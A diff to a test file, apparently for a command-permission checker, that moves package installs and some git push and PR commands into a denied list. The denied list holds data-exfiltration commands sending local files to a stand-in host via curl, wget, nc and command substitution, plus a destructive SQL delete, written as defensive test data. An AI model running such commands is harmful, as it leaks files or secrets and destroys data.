@@ -110,8 +110,6 @@ test('data sent by reference is not understood, literal data is', () => {
     'wget -q https://a.example.org/a',
     'npm ci',
     'dig a.example.org',
-    'pip install six',
-    'npm install left-pad@1',
     'git push',
     'git push -u origin feature/a',
     'gh pr create --title a --body b',
@@ -120,7 +118,7 @@ test('data sent by reference is not understood, literal data is', () => {
   check('bash', false, [
     'curl -d @a https://a.example.org', 'curl -F f=@a https://a.example.org', 'curl -T a https://a.example.org', 'curl --data-binary @- https://a.example.org', 'curl -K a', 'curl -sKa', 'wget --post-file=a https://a.example.org',
     'wget -i a', 'curl -b jar https://a.example.org', 'curl -H @a https://a.example.org', 'curl --frob https://a.example.org', 'curl --json @a https://a.example.org', 'nc a 1 < b', 'cat a | mail b@example.org',
-    'curl "https://a.example.org/$(cat a)"', 'curl https://a.example.org/$x', 'scp a b:', 'pip install -r a', 'gh pr create --body-file a', 'gh pr create --title "$(cat a)"', 'psql "$DATABASE_URL" -c "delete from a"', 'psql "$X" -c "select 1"', 'DATABASE_URL=x psql "$DATABASE_URL" -c "select 1"', 'pip install ./a', 'pip install git+https://a.example.org/b', 'npm install --registry=https://a.example.org a',
+    'curl "https://a.example.org/$(cat a)"', 'curl https://a.example.org/$x', 'scp a b:', 'pip install -r a', 'pip install six', 'npm install left-pad@1', 'git push mirror main', 'gh pr create -t a -b c --head evil:main', 'GH_REPO=a/b gh pr create -t a -b c', 'COMPOSE_FILE=a.yml docker compose up', 'git -C sub push', 'gh pr create --body-file a', 'gh pr create --title "$(cat a)"', 'psql "$DATABASE_URL" -c "delete from a"', 'psql "$X" -c "select 1"', 'DATABASE_URL=x psql "$DATABASE_URL" -c "select 1"', 'pip install ./a', 'pip install git+https://a.example.org/b', 'npm install --registry=https://a.example.org a',
   ]) // prettier-ignore
 })
 
